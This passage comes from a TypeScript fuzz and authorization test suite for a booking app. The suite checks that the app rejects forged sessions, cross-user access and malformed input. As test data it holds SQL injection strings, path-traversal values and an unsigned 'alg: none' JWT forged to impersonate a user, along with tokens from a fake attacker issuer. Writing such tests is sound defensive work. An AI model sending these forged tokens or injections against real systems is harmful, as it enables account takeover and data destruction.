      }),
  ),
  "drafts.saveDetails": tabEntry(
    { details: DETAILS, rev: COUNTER },
    (_, rng) => ({ details: rng.pick([VALID_DETAILS, GUEST]), rev: 1_000 + rng.int(1_000) }),
    // On a new tab this starts its draft (so no forged probe); on another user's tab it is refused.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId, details: EVE, rev: Number.MAX_SAFE_INTEGER }), {
        foreign: same(SIGNED_OUT),
      }),
  ),

  "heartbeats.beat": tabEntry(
    { seq: COUNTER, visible: { type: "boolean" } },
    (_, rng) => ({ seq: 1_000 + rng.int(1_000), visible: rng.chance(0.5) }),
    // A new tab's first beat records it (so no forged probe); another user's tab ignores it, as a stale beat.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId, seq: Number.MAX_SAFE_INTEGER, visible: true }), {
        foreign: same({ resolves: { beatEveryMs: expect.any(Number), hold: null } }),
      }),
  ),

  "holds.mine": tabEntry(
    {},
    () => ({}),
    // An empty tab holds nothing, and another user's hold is hidden.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), { forged: same(NOTHING), foreign: same(NOTHING) }),
  ),
  "holds.hold": tabEntry(
    { start: START },
    (_, rng) => ({ start: rng.pick([NOON, TEN, tuesdayAt(9)]) }),
    // No visible draft to hold a time for; a time outside working hours is "taken", not an error.
    (w, rng) => [
      ...tabProbes(w, rng, (sessionId) => ({ sessionId, start: NOON }), {
        forged: same({ resolves: { ok: false, reason: "incomplete" } }),
        foreign: same({ resolves: { ok: false, reason: "incomplete" } }),
      }),
      {
        label: "03:00, outside working hours, on Ada's own tab",
        caller: w.ada.as,
        args: { sessionId: w.tabs.ada, start: tuesdayAt(3) },
        expected: { resolves: { ok: false, reason: "taken" } },
        spends: [w.tabs.ada],
      },
    ],
  ),
  "holds.extend": tabEntry(
    {},
    () => ({}),
    // No visible hold to extend.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), { forged: same(NOT_OK), foreign: same(NOT_OK) }),
  ),
  "holds.release": tabEntry(
    {},
    () => ({}),
    // Nothing visible to give back: a no-op.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), { forged: same(NOTHING), foreign: same(NOTHING) }),
  ),

  "bookings.confirm": tabEntry(
    {},
    () => ({}),
    // No visible draft: incomplete from its first step.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), {
        forged: same(INCOMPLETE),
        foreign: same(INCOMPLETE),
      }),
  ),
  "bookings.confirmation": tabEntry(
    { reference: REFERENCE },
    (w, rng) => ({ reference: rng.pick([w.references.ada, w.references.guest, UNKNOWN_REFERENCE]) }),
    // Shown only to the tab that booked it or its signed-in owner.
    (w, rng) => [
      ...tabProbes(w, rng, (sessionId) => ({ sessionId, reference: w.references.ada }), {
        forged: same(NOTHING),
        foreign: same(NOTHING),
      }),
      ...tabProbes(w, rng, (sessionId) => ({ sessionId, reference: w.references.guest }), {
        forged: same(NOTHING),
        foreign: same(NOTHING),
      }),
    ],
  ),

  "myBookings.list": {
    fields: {},
    base: (w, rng) => ({ caller: rng.pick([w.anon, w.ada.as, w.eve.as]), args: {} }),
  },
  "myBookings.cancel": {
    fields: { reference: REFERENCE },
    base: (w, rng, context) =>
      context === "own"
        ? { caller: w.ada.as, args: { reference: w.references.ada } }
        : {
            caller: rng.pick([w.anon, w.ada.as, w.eve.as]),
            args: { reference: rng.pick(Object.values(w.references)) },
          },
    // Only the signed-in owner's own booking can be cancelled.
    designed: (w) => [
      {
        label: "Ada's booking, signed out",
        caller: w.anon,
        args: { reference: w.references.ada },
        expected: SIGNED_OUT,
        spends: [],
      },
      {
        label: "Ada's booking, as Eve",
        caller: w.eve.as,
        args: { reference: w.references.ada },
        expected: NOT_OK,
        spends: [w.eve.userId],
      },
      {
        label: "the guest's booking, as Eve",
        caller: w.eve.as,
        args: { reference: w.references.guest },
        expected: NOT_OK,
        spends: [w.eve.userId],
      },
      {
        label: "an unknown reference, as Ada",
        caller: w.ada.as,
        args: { reference: UNKNOWN_REFERENCE },
        expected: NOT_OK,
        spends: [w.ada.userId],
      },
    ],
  },
  "myBookings.startReschedule": {
    ...tabEntry({ reference: REFERENCE }, (w) => ({ reference: w.references.ada })),
    base: (w, rng, context) => {
      const { caller, sessionId } =
        context === "own" ? { caller: w.ada.as, sessionId: w.tabs.ada } : tabOf(w, rng, context);
      return { caller, args: { sessionId, reference: w.references.ada } };
    },
    designed: (w, rng) => [
      // On another user's tab Eve names her own booking: it must not land there.
      ...tabProbes(
        w,
        rng,
        (sessionId, context) => ({
          sessionId,
          reference: context === "forged" ? w.references.ada : w.references.eve,
        }),
        {
          forged: signedOutOrNotOk,
          foreign: signedOutOrNotOk,
        },
      ),
      {
        label: "an unknown reference on Ada's own tab",
        caller: w.ada.as,
        args: { sessionId: w.tabs.ada, reference: UNKNOWN_REFERENCE },
        expected: NOT_OK,
        spends: [w.ada.userId],
      },
    ],
  },

  "manage.open": {
    fields: { sessionId: SESSION, token: text(128) },
    base: linkBase((w) => w.guestToken),
    // Wrong links (one character off, unknown, malformed) all get the same answer and spend the
    // deployment's miss budget; a good link on a signed-in user's tab lands nowhere.
    designed: (w, rng) => {
      const flipped = w.guestToken.slice(0, -1) + (w.guestToken.endsWith("A") ? "B" : "A");
      return wrongLinkProbes(w, rng, [
        flipped,
        "A".repeat(43),
        w.guestToken.slice(1),
        "",
        "../manage",
      ]).concat(
        tabProbes(w, rng, (sessionId) => ({ sessionId, token: w.guestToken }), {
          foreign: same({ resolves: { ok: false, reason: "invalid" } }),
        }),
      );
    },
  },
  "manage.view": manageEntry(NOTHING),
  "manage.cancel": manageEntry(NOT_OK),
  "manage.startReschedule": manageEntry(NOT_OK),

  "sessions.notice": tabEntry(
    {},
    () => ({}),
    // Notices are per tab, and these tabs have none.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), { forged: same(NOTHING), foreign: same(NOTHING) }),
  ),
  "sessions.acknowledgeNotice": tabEntry(
    {},
    () => ({}),
    // Nothing to acknowledge: a no-op.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), { forged: same(NOTHING), foreign: same(NOTHING) }),
  ),
  "sessions.adopt": tabEntry(
    { newSessionId: SESSION },
    (_, rng) => ({ newSessionId: forgedSessionId(rng) }),
    (w, rng) => [
      // Eve logging in on an empty tab carries nothing over; another user's tab is refused.
      ...tabProbes(w, rng, (sessionId) => ({ sessionId, newSessionId: forgedSessionId(rng) }), {
        forged: (who) => (who === "anonymous" ? SIGNED_OUT : { resolves: { ok: true } }),
        foreign: signedOutOrNotOk,
      }),
      {
        label: "onto Bob's tab ID, by Ada",
        caller: w.ada.as,
        args: { sessionId: w.tabs.ada, newSessionId: w.tabs.bob },
        expected: NOT_OK,
        spends: [w.tabs.ada],
      },
    ],
  ),
  "sessions.fork": tabEntry(
    { newSessionId: SESSION },
    (_, rng) => ({ newSessionId: forgedSessionId(rng) }),
    (w, rng) => [
      // A duplicated tab whose draft it cannot see starts empty; an ID in use is refused.
      ...tabProbes(w, rng, (sessionId) => ({ sessionId, newSessionId: forgedSessionId(rng) }), {
        forged: same({ resolves: { ok: true, copied: false } }),
        foreign: same({ resolves: { ok: true, copied: false } }),
      }),
      {
        label: "onto Ada's tab ID, by the guest",
        caller: w.anon,
        args: { sessionId: w.tabs.guest, newSessionId: w.tabs.ada },
        expected: NOT_OK,
        spends: [w.tabs.guest],
      },
    ],
  ),
  "sessions.clearOnSignOut": tabEntry(
    {},
    () => ({}),
    // Clears only the caller's own rows: Eve has none, and Ada's tab is not hers.
    (w, rng) =>
      tabProbes(w, rng, (sessionId) => ({ sessionId }), { forged: same(NOTHING), foreign: same(NOTHING) }),
  ),

  "team.me": {
    fields: {},
    base: (w, rng) => ({ caller: rng.pick([w.anon, w.ada.as, w.team.owner.as]), args: {} }),
  },
  "team.acceptInvite": {
    fields: { token: { type: "string", accepts: () => false } },
    base: (w, rng, context) => ({
      caller: context === "own" ? w.team.newcomer.as : rng.pick([w.anon, w.eve.as, w.team.newcomer.as]),
      args: { token: w.team.token },
    }),
    // Anyone else's well-formed token names no invite; team members cannot join twice.
    designed: (w) => [
      {
        label: "signed out",
        caller: w.anon,
        args: { token: w.team.token },
        expected: SIGNED_OUT,
        spends: [],
      },
      {
        label: "an unknown token, as Eve",
        caller: w.eve.as,
        args: { token: "x".repeat(43) },
        expected: { rejects: "INVITE_INVALID" },
        spends: [],
      },
      {
        label: "a member using an open invite",
        caller: w.team.benStaff.as,
        args: { token: w.team.token },
        expected: { rejects: "ALREADY_MEMBER" },
        spends: [],
      },
    ],
  },
  "team.list": consoleEntry("owner", {}, () => ({})),
  "team.removeStaff": consoleEntry("owner", { memberId: idOf("members") }, (w) => ({
    memberId: w.team.benStaffMemberId,
  })),
  "team.inviteStaff": consoleEntry("owner", { providerId: PROVIDER_ID }, (w) => ({
    providerId: w.providerId,
  })),
  "team.revokeInvite": consoleEntry("owner", { inviteId: idOf("invites") }, (w) => ({
    inviteId: w.team.inviteId,
  })),
  "serviceAdmin.list": consoleEntry("owner", {}, () => ({})),
  "serviceAdmin.create": consoleEntry("owner", SERVICE_FIELDS, (w) => serviceForm(w)),
  "serviceAdmin.update": consoleEntry("owner", { serviceId: idOf("services"), ...SERVICE_FIELDS }, (w) => ({
    serviceId: w.serviceId,
    ...serviceForm(w),
  })),
  "serviceAdmin.setArchived": consoleEntry(
    "owner",
    { serviceId: idOf("services"), archived: { type: "boolean" } },
    (w) => ({ serviceId: w.serviceId, archived: true }),
  ),
  "providerAdmin.list": consoleEntry("member", {}, () => ({})),
  "providerAdmin.setArchived": consoleEntry(
    "owner",
    { providerId: PROVIDER_ID, archived: { type: "boolean" } },
    (w) => ({ providerId: w.team.ben, archived: true }),
  ),
  "providerAdmin.get": consoleEntry("provider", {}, () => ({})),
  "providerAdmin.create": consoleEntry("owner", PROVIDER_FIELDS, () => PROVIDER_SETTINGS),
  "providerAdmin.update": consoleEntry("provider", PROVIDER_FIELDS, () => PROVIDER_SETTINGS),
  "providerAdmin.setOverride": consoleEntry(
    "provider",
    { date: DATE, closed: { type: "boolean" }, hours: { type: "any" } },
    () => ({ date: "2026-11-04", closed: false, hours: [{ start: "10:00", end: "12:00" }] }),
  ),
  "providerAdmin.removeOverride": consoleEntry("provider", { date: DATE }, () => ({ date: "2026-11-05" })),
  "providerAdmin.addTimeOff": consoleEntry(
    "provider",
    { start: LOCAL_DATE_TIME, end: LOCAL_DATE_TIME, reason: trimmed(200) },
    () => ({ start: "2026-11-09T09:00", end: "2026-11-09T12:00", reason: "Course" }),
  ),
  "providerAdmin.removeTimeOff": consoleEntry("provider", { timeOffId: idOf("timeOff") }, (w) => ({
    timeOffId: w.team.timeOffId,
  })),
  "agenda.forProvider": consoleEntry("provider", AGENDA_FIELDS, () => ({ date: "2026-11-02", days: 7 })),
  "agenda.all": consoleEntry("owner", AGENDA_FIELDS, () => ({ date: "2026-11-02", days: 7 })),
  "agenda.cancel": consoleEntry("provider", { reference: REFERENCE, reason: trimmed(300, 1) }, (w) => ({
    reference: w.references.ada,
    reason: "Ann is ill.",
  })),
  "agenda.revokeLink": consoleEntry("provider", { reference: REFERENCE }, (w) => ({
    reference: w.references.ada,
  })),
  "agenda.moveOptions": consoleEntry("provider", { reference: REFERENCE, date: DATE }, (w) => ({
    reference: w.references.ada,
    date: "2026-11-04",
  })),
  "agenda.move": consoleEntry(
    "provider",
    { reference: REFERENCE, start: START, reason: trimmed(300, 1) },
    (w) => ({
      reference: w.references.ada,
      start: Date.UTC(2026, 10, 4, 11),
      reason: "Ann's hours changed.",
    }),
  ),
  "audit.list": consoleEntry("owner", {}, () => ({})),
  "settings.get": consoleEntry("owner", {}, () => ({})),
  "settings.setVerifyGuestEmail": consoleEntry("owner", { on: { type: "boolean" } }, () => ({ on: false })),
  "bookingVerification.verify": {
    fields: { sessionId: SESSION, token: text(128) },
    base: linkBase(() => "A".repeat(43)),
    // No booking waits for its email here: every link, a manage link included, is unknown alike.
    designed: (w, rng) => wrongLinkProbes(w, rng, [w.guestToken, "A".repeat(43), "", "../verify"]),
  },
};

// ---- Cases ----

type Case = { label: string; caller: Caller; args: unknown; refusedWith?: string };

const isPlainObject = (value: unknown): value is Args =>
  typeof value === "object" && value !== null && !Array.isArray(value) && !(value instanceof ArrayBuffer);

/** The object holding the last key of `path`, if every step on the way is an object. */
function parentOf(args: Args, path: string[]): Args | undefined {
  let node: unknown = args;
  for (const key of path.slice(0, -1)) node = isPlainObject(node) ? node[key] : undefined;
  return isPlainObject(node) ? node : undefined;
}

/** A copy of `args` with `value` at `path` (an own property, even for "__proto__"). */
function withValue(args: Args, path: string[], value: unknown): Args {
  const copy = structuredClone(args);
  const parent = parentOf(copy, path);
  if (parent !== undefined) {
    Object.defineProperty(parent, path.at(-1)!, {
      value,
      enumerable: true,
      writable: true,
      configurable: true,
    });
  }
  return copy;
}

function without(args: Args, path: string[]): Args {
  const copy = structuredClone(args);
  const parent = parentOf(copy, path);
  if (parent !== undefined) delete parent[path.at(-1)!];
  return copy;
}

/** Names a field must not smuggle in, then random ones. */
const EXTRA_NAMES = (w: World) => ["userId", "_id", "token", "isAdmin", "sessionIds", w.tabs.ada];

function signInParams(rng: Rng): unknown {
  if (rng.chance(0.3)) return randomValue(rng);
  const flow = rng.pick([
    "signIn",
    "signUp",
    "reset",
    "reset-verification",
    "email-verification",
    randomString(rng),
  ]);
  // Never a valid sign-up: its email is never an address.
  const email =
    flow === "signIn"
      ? rng.pick(["nobody@example.com", "ada@example.com", randomString(rng)])
      : randomString(rng).replaceAll("@", "");
  const params: Args = { flow, email, password: rng.chance(0.7) ? randomString(rng) : randomValue(rng) };
  if (rng.chance(0.3)) params.code = randomString(rng);
  if (rng.chance(0.2)) params.newPassword = randomString(rng);
  if (rng.chance(0.3)) delete params[rng.pick(Object.keys(params))];
  return params;
}

function malformedSessionIds(w: World): string[] {
  const id = w.tabs.ada;
  const at = (index: number, char: string) => id.slice(0, index) + char + id.slice(index + 1);
  const ids = [
    "",
    "not-a-uuid",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    id.replaceAll("-", ""),
    `{${id}}`,
    `urn:uuid:${id}`,
    ` ${id}`,
    `${id} `,
    `${id}\n`,
    `\n${id}`,
    `${id}\u0000`,
    `${id}\u200b`,
    id.slice(0, -1),
    `${id}0`,
    at(14, "0"), // version 0
    at(14, "9"), // version 9
    at(19, "c"), // wrong variant
    id.replace(/\d/, (d) => String.fromCharCode(0xff10 + Number(d))), // a full-width digit
    id.replace(/[0-9a-f]/i, "\u0430"), // a Cyrillic "а"
    `${id},${w.tabs.bob}`,
    `${id}' OR '1'='1`,
    "'; DROP TABLE bookingDrafts; --",
    "a".repeat(36),
    "-".repeat(36),
    HUGE,
  ];
  for (const bad of ids) expect(isSessionId(bad), preview(bad)).toBe(false);
  return ids;
}

const RANDOM_CASES = 30;

type Breakage = [what: string, apply: (args: Args) => Args];

/** Ways to break one field of `args`: leave it out, give it another type, give it a value it refuses. */
function breakages(rng: Rng, path: string[], field: Field, args: Args): Breakage[] {
  const out: Breakage[] = [];
  const present = parentOf(args, path)?.[path.at(-1)!] !== undefined;
  if (present && (!field.optional || path.length > 1)) out.push(["missing", (a) => without(a, path)]);
  if (field.type !== "any") {
    const value = wrongType(rng, field);
    out.push([`wrong type ${preview(value)}`, (a) => withValue(a, path, value)]);
  }
  const bad = field.type === "any" ? signInParams(rng) : badValue(rng, field);
  if (bad !== undefined) out.push([`bad value ${preview(bad)}`, (a) => withValue(a, path, bad)]);
  return out.filter(() => parentOf(args, path) !== undefined);
}

function* invalidCases(w: World, entry: Entry, rng: Rng): Generator<Case> {
  const base = () => entry.base(w, rng);
  for (const args of [[], [base().args], "args", 42, true, 7n, new ArrayBuffer(8)]) {
    yield { label: `arguments ${preview(args)}`, caller: rng.pick([w.anon, w.ada.as]), args };
  }
  const paths = pathsOf(entry.fields);
  const objectPaths = [[], ...paths.filter((p) => p.field.type === "object").map((p) => p.path)];

  // Each field: missing, a few wrong types, a few refused values, and 1 MB where text is capped.
  for (const { path, field } of paths) {
    for (let i = 0; i < 4; i++) {
      const { caller, args } = base();
      for (const [what, apply] of breakages(rng, path, field, args)) {
        if (what === "missing" && i > 0) continue;
        yield { label: `${path.join(".")}: ${what}`, caller, args: apply(args) };
      }
    }
    if (field.type === "string" && !field.accepts(HUGE)) {
      const { caller, args } = base();
      yield { label: `${path.join(".")}: 1 MB`, caller, args: withValue(args, path, HUGE) };
    }
  }
  // Unknown fields, at the top and in nested objects.
  for (const path of objectPaths) {
    for (const name of [...EXTRA_NAMES(w), randomFieldName(rng), randomFieldName(rng)]) {
      const { caller, args } = base();
      if (parentOf(args, [...path, name])?.[name] !== undefined) continue;
      const value = name === "userId" ? w.ada.userId : randomValue(rng);
      const label = `${[...path, name].join(".")}: unknown field = ${preview(value)}`;
      yield { label, caller, args: withValue(args, [...path, name], value) };
    }
  }
  // Malformed session IDs in otherwise valid calls: refused as such.
  if (entry.fields.sessionId === SESSION) {
    for (const sessionId of malformedSessionIds(w)) {
      const { caller, args } = base();
      yield {
        label: `sessionId ${preview(sessionId)}`,
        caller,
        args: { ...args, sessionId },
        refusedWith: "INVALID_SESSION",
      };
    }
  }
  // Random combinations of one to three breakages.
  for (let i = 0; i < RANDOM_CASES; i++) {
    const { caller } = base();
    let { args } = base();
    const applied: string[] = [];
    for (let n = 1 + rng.int(3); n > 0; n--) {
      if (paths.length === 0 || rng.chance(0.15)) {
        const path = [...rng.pick(objectPaths), randomFieldName(rng)];
        const parent = parentOf(args, path);
        if (parent === undefined || parent[path.at(-1)!] !== undefined) continue;
        args = withValue(args, path, randomValue(rng));
        applied.push(`${path.join(".")}: unknown field`);
        continue;
      }
      const { path, field } = rng.pick(paths);
      const options = breakages(rng, path, field, args);
      if (options.length === 0) continue;
      const [what, apply] = rng.pick(options);
      args = apply(args);
      applied.push(`${path.join(".")}: ${what}`);
    }
    if (applied.length > 0) yield { label: applied.join(" + "), caller, args };
  }
}

// ---- Running ----

function refOf(name: string) {
  const dot = name.lastIndexOf(".");
  return makeFunctionReference<Kind>(`${name.slice(0, dot)}:${name.slice(dot + 1)}`);
}

function invoke(caller: Caller, kind: Kind, ref: FunctionReference<Kind>, args: unknown): Promise<unknown> {
  if (kind === "query") return caller.query(ref as FunctionReference<"query">, args);
  if (kind === "mutation") return caller.mutation(ref as FunctionReference<"mutation">, args);
  return caller.action(ref as FunctionReference<"action">, args);
}

function isClearRejection(outcome: Outcome, entry: Entry): boolean {
  if (outcome.kind === "validation" || outcome.kind === "refused") return true;
  // @convex-dev/auth answers a code or refresh token that matches nothing with "no tokens", and changes nothing.
  if (entry.auth && outcome.kind === "resolved") return JSON.stringify(outcome.value) === '{"tokens":null}';
  return entry.auth === true && outcome.kind === "library";
}

let signingKey: CryptoKey;
let strangersKey: CryptoKey;
let jwks: string;
const ISSUER = "https://tabbook.example";
beforeAll(async () => {
  ({ signingKey, strangersKey, jwks } = await newSigningKeys());
});

freezeClockEachTest(MONDAY_8AM);
let w: World;
beforeEach(async () => {
  vi.stubEnv("JWKS", jwks);
  vi.stubEnv("CONVEX_SITE_URL", ISSUER);
  // @convex-dev/auth logs every sign-in step at INFO.
  vi.stubEnv("AUTH_LOG_LEVEL", "ERROR");
  w = await seedWorld(newBackend());
});

it("has an entry for every public function and HTTP route, and none for anything else", () => {
  expect([...PUBLIC.keys()].sort()).toEqual(Object.keys(ENTRIES).sort());
  expect([...ROUTES].sort()).toEqual(Object.keys(ROUTE_ENTRIES).sort());
});

describe.each([...PUBLIC])("%s (%s)", (name, kind) => {
  it("rejects invalid arguments with a clear error and changes nothing", async () => {
    const entry = ENTRIES[name];
    expect(entry, `${name} has no fuzz entry`).toBeDefined();
    const rng = prng(seedOf(name));
    const ref = refOf(name);
    const before = await database(w.t);
    let cases = 0;
    for (const c of invalidCases(w, entry, rng)) {
      const outcome = await attempt(() => invoke(c.caller, kind, ref, c.args));
      const label = `${name} with ${c.label} → ${outcome.text}`;
      if (c.refusedWith !== undefined) {
        expect(outcome.kind === "refused" ? outcome.code : outcome.kind, label).toBe(c.refusedWith);
      } else {
        expect(isClearRejection(outcome, entry), label).toBe(true);
      }
      await expectUnchanged(w.t, before, label);
      cases++;
    }
    expect(cases).toBeGreaterThan(20);
  });

  it("answers well-formed calls that name nothing of the caller's as designed, and changes nothing", async () => {
    const entry = ENTRIES[name];
    const rng = prng(seedOf(`${name} designed`));
    for (const probe of entry.designed?.(w, rng) ?? []) {
      const before = await database(w.t);
      const outcome = await attempt(() => invoke(probe.caller, kind, refOf(name), probe.args));
      const label = `${name} on ${probe.label} → ${outcome.text}`;
      if ("rejects" in probe.expected) {
        expect(outcome.kind === "refused" ? outcome.code : outcome.text, label).toBe(probe.expected.rejects);
      } else {
        expect(outcome.kind, label).toBe("resolved");
        expect((outcome as { value: unknown }).value, label).toEqual(probe.expected.resolves);
      }
      // Rate-limit bookkeeping for the named tab and the caller is the only write allowed.
      await expectUnchanged(w.t, before, label, probe.spends);
    }
  });

  it("accepts its base arguments from the caller's own tab (so the cases above broke only what they say)", async () => {
    const entry = ENTRIES[name];
    const { caller, args } = entry.base(w, prng(seedOf(name)), "own");
    const outcome = await attempt(() => invoke(caller, kind, refOf(name), args));
    // The base sign-in names no account: it gets as far as the uniform "no match" answer.
    if (entry.auth) expect(outcome).toMatchObject({ kind: "refused", code: "INVALID_CREDENTIALS" });
    else expect(outcome.kind, outcome.text).toBe("resolved");
  });
});

// ---- HTTP routes ----

function accessToken(
  userId: Id<"users">,
  { key = signingKey, issuer = ISSUER, audience = "convex", expiresAt = MONDAY_8AM / 1000 + 3600 } = {},
) {
  return new SignJWT({})
    .setProtectedHeader({ alg: "RS256" })
    .setSubject(`${userId}|auth-session`)
    .setIssuer(issuer)
    .setAudience(audience)
    .setIssuedAt(MONDAY_8AM / 1000)
    .setExpirationTime(expiresAt)
    .sign(key);
}

/** An unsigned token ("alg": "none") claiming to be `userId`. */
function unsignedToken(userId: Id<"users">): string {
  const part = (value: object) =>
    btoa(JSON.stringify(value)).replaceAll("=", "").replaceAll("+", "-").replaceAll("/", "_");
  return `${part({ alg: "none" })}.${part({ sub: `${userId}|x`, iss: ISSUER, aud: "convex", exp: MONDAY_8AM / 1000 + 3600 })}.`;
}

/** Tokens that do not prove Ada: other users', forged, expired, malformed. */
async function unprovenTokens(w: World, rng: Rng): Promise<[string, unknown][]> {
  return [
    ["no token", undefined],
    ["Bob's token", await accessToken(w.bob.userId)],
    ["Eve's token", await accessToken(w.eve.userId)],
    ["a token for Ada signed with another key", await accessToken(w.ada.userId, { key: strangersKey })],
    ["an unsigned token claiming Ada", unsignedToken(w.ada.userId)],
    ["an expired token for Ada", await accessToken(w.ada.userId, { expiresAt: MONDAY_8AM / 1000 - 1 })],
    [
      "a token for Ada from another issuer",
      await accessToken(w.ada.userId, { issuer: "https://evil.example" }),
    ],
    ["a token for Ada for another audience", await accessToken(w.ada.userId, { audience: "evil" })],
    ["a 5 KB token", "e".repeat(5 * 1024)],
    ["a random string", randomString(rng)],
    ["a number", 42],
    ["an object", { sub: w.ada.userId }],
  ];
}

type Beacon = {
  fields: Record<string, Field>;
  valid: (w: World, rng: Rng) => Args;
  /** What an unproven beacon on a signed-in user's tab gets: refused. */
  unproven: { status: number; body: unknown };
};

const BEACONS: Record<string, Beacon> = {
  "POST /drafts/flush": {
    fields: { sessionId: SESSION, details: DETAILS, rev: COUNTER },
    valid: (_, rng) => ({ details: EVE, rev: 1_000_000 + rng.int(1_000) }),
    unproven: { status: 400, body: { code: "SIGNED_OUT", message: expect.any(String) } },
  },
  "POST /heartbeats/leave": {
    fields: { sessionId: SESSION, seq: COUNTER },
    valid: (_, rng) => ({ seq: 1_000_000 + rng.int(1_000) }),
    unproven: { status: 400, body: { code: "SIGNED_OUT", message: expect.any(String) } },
  },
};

const MAX_BEACON_BYTES = 8 * 1024;

/** A value of another type than the field's that JSON can carry (no bigint, no bytes; NaN becomes null). */
function jsonWrongType(rng: Rng, field: Field): unknown {
  for (;;) {
    let value: unknown;
    try {
      value = JSON.parse(JSON.stringify(wrongType(rng, field)) ?? "null");
    } catch {
      continue; // a bigint somewhere inside
    }
    const type = Array.isArray(value) || value === null ? "other" : typeof value;
    if (type !== field.type) return value;
  }
}

/** What a route answers a body (and headers) with. */
async function post(path: string, body: string, headers: Record<string, string> = {}) {
  const response = await w.t.fetch(path, {
    method: "POST",
    headers: { "Content-Type": "text/plain", ...headers },
    body,
  });
  return { status: response.status, text: await response.text() };
}

/** A 4xx whose body says why: a short sentence, or a ConvexError's data. */
function expectClearRefusal(response: { status: number; text: string }, label: string) {
  expect(response.status, `${label}: ${response.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
  expect(response.status, label).toBeLessThan(500);
  if (response.text.startsWith("{")) {
    const data = JSON.parse(response.text) as { code?: unknown; message?: unknown; ZodError?: unknown };
    expect(typeof data.code === "string" || Array.isArray(data.ZodError), `${label}: ${response.text}`).toBe(
      true,
    );
  } else {
    expect(["Expected a JSON object", "Payload too large", "Invalid beacon"], label).toContain(response.text);
  }
}

const ROUTE_ENTRIES: Record<string, (rng: Rng) => Promise<void>> = {
  ...Object.fromEntries(
    Object.entries(BEACONS).map(([route, beacon]) => [
      route,
      async (rng: Rng) => {
        const path = route.slice("POST ".length);
        const before = await database(w.t);
        const boundTabs = [w.tabs.ada, w.tabs.adaBooked, w.tabs.bob];
        const check = async (label: string, body: string, headers?: Record<string, string>) => {
          const response = await post(path, body, headers);
          expectClearRefusal(response, `${route} ${label}`);
          await expectUnchanged(w.t, before, `${route} ${label}`);
          return response;
        };

        // Not a JSON object.
        for (const body of [
          "",
          "{",
          "}{",
          "null",
          "[]",
          '[{"sessionId":1}]',
          "42",
          '"text"',
          "true",
          "\ufeff{}",
          "{'a':1}",
          '{"a":1,}',
          "NaN",
        ]) {
          await check(`body ${preview(body)}`, body);
        }
        for (let i = 0; i < 20; i++) {
          const body = randomString(rng);
          let isObject = false;
          try {
            const parsed: unknown = JSON.parse(body);
            isObject = typeof parsed === "object" && parsed !== null && !Array.isArray(parsed);
          } catch {
            // not JSON
          }
          if (!isObject) await check(`body ${preview(body)}`, body);
        }
        // Too large, whatever it says, and whatever size it claims.
        const valid = () => ({ sessionId: rng.pick(boundTabs), ...beacon.valid(w, rng) });
        for (const size of [MAX_BEACON_BYTES + 1, 64 * 1024, HUGE.length]) {
          const body = JSON.stringify({ ...valid(), padding: "x".repeat(size) });
          expect((await check(`a ${body.length}-byte body`, body)).status).toBe(413);
        }
        const small = JSON.stringify(valid());
        expect(
          (await check("a body that claims 1 MB", small, { "Content-Length": String(1024 * 1024) })).status,
        ).toBe(413);
        // Wrong fields: each broken in turn, on a signed-in user's tab, with no proof of the user.
        for (const { path: fieldPath, field } of pathsOf(beacon.fields)) {
          const broken: unknown[] = [undefined, jsonWrongType(rng, field), jsonWrongType(rng, field)];
          const bad = badValue(rng, field);
          // Numbers JSON cannot carry (NaN, Infinity) arrive as null: still refused.
          if (bad !== undefined) broken.push(bad);
          if (field.type === "string") broken.push(HUGE.slice(0, 4000));
          for (const value of broken) {
            const body =
              value === undefined ? without(valid(), fieldPath) : withValue(valid(), fieldPath, value);
            await check(`${fieldPath.join(".")} = ${preview(value)}`, JSON.stringify(body));
          }
        }
        for (const name of [
          ...EXTRA_NAMES(w).filter((n) => n !== "userId" && n !== "token"),
          randomFieldName(rng),
        ]) {
          await check(
            `unknown field ${preview(name)}`,
            JSON.stringify({ ...valid(), [name]: randomString(rng) }),
          );
        }
        // Malformed session IDs, even with Ada's own token.
        const token = await accessToken(w.ada.userId);
        for (const sessionId of malformedSessionIds(w).filter((id) => id.length < 4000)) {
          const response = await check(
            `sessionId ${preview(sessionId)}`,
            JSON.stringify({ ...valid(), sessionId, token }),
          );
          expect(JSON.parse(response.text), sessionId).toMatchObject({ code: "INVALID_SESSION" });
        }
        // Forged session IDs with broken fields.
        for (const { path: fieldPath, field } of pathsOf(beacon.fields).filter(
          (p) => p.path[0] !== "sessionId",
        )) {
          const body = withValue(
            { ...valid(), sessionId: forgedSessionId(rng) },
            fieldPath,
            jsonWrongType(rng, field),
          );
          await check(`a forged tab with ${fieldPath.join(".")} broken`, JSON.stringify(body));
        }
        // A body claiming a user, and tokens that do not prove the tab's user.
        for (const sessionId of [w.tabs.ada, w.tabs.adaBooked]) {
          for (const [label, proof] of [
            ["a userId field claiming Ada", { userId: w.ada.userId }],
            ...(await unprovenTokens(w, rng)).map(([name, value]) => [name, { token: value }] as const),
          ] as const) {
            const probeBefore = await database(w.t);
            const response = await post(path, JSON.stringify({ ...valid(), sessionId, ...proof }));
            const what = `${route} on Ada's tab with ${label}`;
            expect({ status: response.status, body: JSON.parse(response.text) as unknown }, what).toEqual(
              beacon.unproven,
            );
            await expectUnchanged(w.t, probeBefore, what, [sessionId]);
          }
        }
        // Other methods are not routed.
        for (const method of ["GET", "PUT", "DELETE"]) {
          const response = await w.t.fetch(path, { method });
          expect(response.status, `${method} ${path}`).toBe(404);
        }
      },
    ]),
  ),
  ...Object.fromEntries(
    ["GET /.well-known/openid-configuration", "GET /.well-known/jwks.json"].map((route) => [
      route,
      // @convex-dev/auth's discovery documents take no input: junk in the query string changes nothing.
      async (rng: Rng) => {
        const path = route.slice("GET ".length);
        const before = await database(w.t);
        const plain = await (await w.t.fetch(path)).text();
        for (let i = 0; i < 10; i++) {
          const query = encodeURIComponent(randomString(rng).slice(0, 2000));
          const response = await w.t.fetch(`${path}?${query}=${query}`, {
